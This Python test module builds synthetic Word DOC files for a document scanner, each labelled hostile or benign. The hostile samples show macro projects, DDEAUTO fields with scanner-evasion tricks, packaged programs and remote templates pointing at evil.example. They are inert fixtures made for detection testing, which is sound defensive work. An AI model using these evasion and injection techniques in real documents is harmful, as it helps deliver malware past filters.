"""DOC: Word 6 to Word 2019, and what hides in a compound file."""

import struct
from typing import Any

from tests.integrations.compound_files import Tree, compound, doc, old_word_stream, word_streams
from tests.integrations.file_samples import archive, content_types, docx, relationships
from tests.integrations.office_corpus.table import (
    ACTIVE,
    COMPLEX,
    DAMAGED,
    DISGUISED,
    ENCRYPTED,
    FIELD_UNC,
    INERT,
    LINK,
    LOCAL,
    MACROS,
    NOTHING,
    REMOTE,
    UNC,
    UNKNOWN,
    WEB,
    Honest,
    Hostile,
)


def field(instruction: str, result: str = "1") -> str:
    """A field as Word stores it."""
    return f"\x13{instruction}\x14{result}\x15"


def old(text: str = "Policy\r", **word: Any) -> bytes:
    """A DOC of Word 6 or 95."""
    return compound({"WordDocument": old_word_stream(text, **word), "\x01CompObj": bytes(100)})


def theme(extra: dict[str, bytes | str] | None = None) -> bytes:
    """The archive that Word 2007 keeps for the theme."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(
            ("/theme/theme/themeManager.xml", "application/vnd.openxmlformats-officedocument.themeManager+xml")
        ),
        "_rels/.rels": relationships(("officeDocument", "theme/theme/themeManager.xml", False)),
        "theme/theme/themeManager.xml": "<a/>",
        **(extra or {}),
    }
    return archive(parts)


def _pieces_on_pieces() -> bytes:
    """A table of pieces that names one long text many times."""
    document, table = word_streams("x" * 300_000, size=400_000)
    count = 20_000
    positions = struct.pack(f"<{count + 1}I", *(n * 300_000 for n in range(14_000)), *[0xFFFFFFFF] * (count - 13_999))
    places = struct.pack("<HIH", 0, 1024 * 2 | 0x40000000, 0) * count
    pieces = struct.pack("<BI", 2, len(positions) + len(places)) + positions + places
    block = bytearray(document)
    struct.pack_into("<2I", block, 154 + 8 * 33, len(table), len(pieces))
    return compound({"WordDocument": bytes(block), "1Table": table + pieces})


def _broken_pieces() -> bytes:
    document, table = word_streams()
    block = bytearray(document)
    struct.pack_into("<2I", block, 154 + 8 * 33, 4000, 5000)
    return compound({"WordDocument": bytes(block), "1Table": table})


_PLAIN = dict(zip(("WordDocument", "1Table"), word_streams(), strict=True))
_VBA: Tree = {"Macros": {"VBA": {"dir": bytes(100), "ThisDocument": bytes(100)}, "PROJECT": bytes(100)}}
_SUMMARY = {"\x05SummaryInformation": bytes(4096), "\x05DocumentSummaryInformation": bytes(4096)}
_LIST_OF_MACROS = b"\xff\x01\x01\x00" + bytes(24) + b"\x40"

HOSTILE: Hostile = {
    "doc: macros": (doc(_VBA), MACROS),
    "doc: macros and an archive behind": (doc(_VBA) + docx(), MACROS),
    "doc: macros and a password": (doc(_VBA, flags=0x0300), MACROS),
    "doc: macros and a damaged text": (doc(_VBA, mark=0), MACROS),
    "doc: macros in capitals": (doc({"MACROS": {"vba": {}}}), MACROS),
    "doc: macros in an entry of no tree": (
        compound(_PLAIN, unlinked=["VBA"]),
        MACROS,
    ),
    "doc: macros in an object": (doc({"ObjectPool": {"_1": {"_VBA_PROJECT_CUR": {"VBA": {}}}}}), MACROS),
    "doc: macros in WordBasic": (old(commands=_LIST_OF_MACROS), MACROS),
    "doc: macros in a template of Word 95": (old(flags=1, commands=b"\xff\x03\x01\x00" + bytes(9)), MACROS),
    "doc: embedded sheet": (doc({"ObjectPool": {"_1": {"Workbook": bytes(99), "\x01CompObj": b"x"}}}), ACTIVE),
    "doc: equation 3": (doc({"ObjectPool": {"_1": {"Equation Native": bytes(99)}}}), ACTIVE),
    "doc: packaged program": (doc({"ObjectPool": {"_1": {"\x01Ole10Native": bytes(99)}}}), ACTIVE),
    "doc: packaged program at the root": (doc({"\x01Ole10Native": bytes(99)}), ACTIVE),
    "doc: packaged program of no tree": (
        compound(_PLAIN, unlinked=["\x01Ole10Native"]),
        ACTIVE,
    ),
    "doc: control": (doc({"ObjectPool": {"_1": {"\x03OCXNAME": b"x", "contents": b"y"}}}), ACTIVE),
    "doc: embedded document": (doc({"ObjectPool": {"_1": {"Package": docx()}}}), ACTIVE),
    "doc: object pool in capitals": (doc({"OBJECTPOOL": {"_1": {"x": b"y"}}}), ACTIVE),
    "doc: DDE": (doc(text=field("DDEAUTO c:\\\\windows\\\\x")), ACTIVE),
    "doc: DDE in wide letters": (doc(text=field("DDEAUTO x"), wide=True), ACTIVE),
    "doc: DDE over pieces": (doc(text="a\r" + field("DDEAUTO x"), pieces=9), ACTIVE),
    "doc: DDE over wide pieces": (doc(text=field("DDEAUTO x"), pieces=7, wide=True), ACTIVE),
    "doc: DDE behind properties": (doc(text=field("DDE x"), properties=b"\x02" * 99), ACTIVE),
    "doc: DDE behind a tab": (doc(text=field("\tDDE x")), ACTIVE),
    "doc: DDE with optional hyphens": (doc(text=field("D\x1fD\u00adE x")), ACTIVE),
    "doc: DDE in a nested field": (doc(text=field("IF " + field("DDE x") + " = 1")), ACTIVE),
    "doc: DDE in a result": (doc(text=field("PAGE", field("DDE x"))), ACTIVE),
    "doc: DDE that never ends": (doc(text="\x13DDEAUTO x"), ACTIVE),
    "doc: DDE without a result": (doc(text="\x13DDEAUTO x\x15"), ACTIVE),
    "doc: name from a field": (doc(text=field(field("QUOTE 68 68 69") + " x")), ACTIVE),
    "doc: QUOTE that spells": (doc(text=field("QUOTE 0x44 0x44 0x45")), ACTIVE),
    "doc: DDE in Word 95": (old(field("DDEAUTO x")), ACTIVE),
    "doc: DDE in pieces of Word 6": (old(field("DDE x"), version=0x65, flags=4), ACTIVE),
    "doc: picture on a server": (doc(text=field(f'INCLUDEPICTURE "{FIELD_UNC}" \\d')), REMOTE),
    "doc: picture by a computed address": (doc(text=field(f"INCLUDEPICTURE {field('REF x')}")), REMOTE),
    "doc: text from the web": (doc(text=field('INCLUDETEXT "https://evil.example/x.doc"')), REMOTE),
    "doc: link on a server": (doc(text=field(f'LINK Word.Document.8 "{FIELD_UNC}" "" \\a')), REMOTE),
    "doc: template on a server": (doc(template=UNC), REMOTE),
    "doc: template on the web": (doc(template="https://evil.example/t.dot"), REMOTE),
    "doc: template of Word 95 on a server": (old(template=UNC), REMOTE),
    "doc: password": (doc(flags=0x0300), ENCRYPTED),
    "doc: obfuscated": (doc(flags=0x8300), ENCRYPTED),
    "doc: password of Word 95": (old(flags=0x0100), ENCRYPTED),
    "doc: rights management": (doc({"\tDRMContent": bytes(999), "\x06DataSpaces": {}}), ENCRYPTED),
    "doc: password of a DOCX": (compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(99)}), ENCRYPTED),
    "doc: archive behind": (doc() + docx(), DISGUISED),
    "doc: archive behind a theme": (doc(theme=theme()) + docx(), DISGUISED),
    "doc: archive in another stream": (doc({"Data": bytes(9000) + docx()}), DISGUISED),
    "doc: macros in the theme": (doc(theme=theme({"word/vbaProject.bin": b"x"})), ACTIVE),
    "doc: program in the theme": (doc(theme=theme({"x.exe": b"MZ\x90\0"})), ACTIVE),
    "doc: address in the theme": (
        doc(theme=theme({"theme/theme/_rels/a.xml.rels": relationships(("image", "file://evil/x", True))})),
        ACTIVE,
    ),
    "doc: two documents": (
        compound({"WordDocument": word_streams()[0], "1Table": bytes(4096), "X": {}, "worddocument ": b""}),
        DAMAGED,
    ),
    "doc: no table": (doc(flags=0), DAMAGED),
    "doc: pieces outside the table": (_broken_pieces(), DAMAGED),
    "doc: pieces upon pieces": (_pieces_on_pieces(), COMPLEX),
    "doc: too many entries": (compound({f"s{n}": b"" for n in range(20_001)}), COMPLEX),
    "doc: too many fields": (doc(text="\x13\x15" * 100_001), COMPLEX),
    "doc: fields nested too deep": (doc(text="\x13" * 201), COMPLEX),
    "doc: sheet renamed": (compound({"Workbook": bytes(5000)}), UNKNOWN),
    "doc: letter of Outlook renamed": (compound({"__properties_version1.0": bytes(5000)}), UNKNOWN),
}

HONEST: Honest = {
    "doc: plain": (doc(), NOTHING),
    "doc: Word 97 with summaries": (doc({**_SUMMARY, "\x01CompObj": bytes(106)}), NOTHING),
    "doc: Word 2003 with a picture": (doc({"Data": bytes(5000), "ObjectPool": {}}), NOTHING),
    "doc: Word 2007 with a theme": (doc({"Data": bytes(5000)}, theme=theme()), NOTHING),
    "doc: with data of SharePoint": (doc({"MsoDataStore": {"A": {"Item": b"<a/>", "Properties": b"<b/>"}}}), NOTHING),
    "doc: signed": (doc({"_xmlsignatures": {"1": b"<a/>"}}), NOTHING),
    "doc: Word 6": (old(version=0x65), NOTHING),
    "doc: Word 6 after a fast save": (old(version=0x65, flags=4), NOTHING),
    "doc: Word 95 with an empty list of macros": (old(commands=b"\xff\x40"), NOTHING),
    "doc: template of Word 95": (old(flags=1, commands=b"\xff\x01\x00\x00\x40"), NOTHING),
    "doc: fast saved": (doc(text="A policy\r" * 9, pieces=20, properties=b"\x02" * 30), NOTHING),
    "doc: Chinese": (doc(text="政策\r", wide=True), NOTHING),
    "doc: page number": (doc(text=field("PAGE  \\* MERGEFORMAT")), NOTHING),
    "doc: contents": (doc(text=field('TOC \\o "1-3"', "A" + field("PAGEREF _Toc1 \\h"))), NOTHING),
    "doc: link": (doc(text=field('HYPERLINK "https://www.gov.uk/"')), NOTHING),
    "doc: link to a file": (doc(text=field('HYPERLINK "C:\\\\a.doc"')), LINK),
    "doc: link with a script": (doc(text=field('HYPERLINK "javascript:x()"')), INERT),
    "doc: picture on the web": (doc(text=field('INCLUDEPICTURE "https://example.org/a.gif" \\* MERGEFORMATINET')), WEB),
    "doc: picture field in its result": (
        doc(text=field('INCLUDEPICTURE "http://example.org/a"', field('INCLUDEPICTURE "http://example.org/a"'))),
        WEB,
    ),
    "doc: picture on the drive": (doc(text=field('INCLUDEPICTURE "C:\\\\a.gif"')), LOCAL),
    "doc: template on the drive": (doc(template="C:\\Office\\Normal.dot"), LOCAL),
    "doc: template of a Mac": (doc(template="Macintosh HD:Templates:Policy.dot"), LOCAL),
    "doc: template by name": (doc(template="Normal.dot"), NOTHING),
    "doc: text about DDE": (doc(text="DDEAUTO starts a program.\r"), NOTHING),
    "doc: macro button": (doc(text=field("MACROBUTTON AcceptAllChanges Click")), NOTHING),
    "doc: form": (doc(text=field("FORMTEXT \x01", "name") + field("FORMCHECKBOX \x01")), NOTHING),
    "doc: old mark of a field": (doc(text="a\x15b\x14c\r"), NOTHING),
    "doc: large": (doc(size=8_000_000), NOTHING),
    "doc: many entries": (doc({f"s{n}": b"x" for n in range(500)}), NOTHING),
}
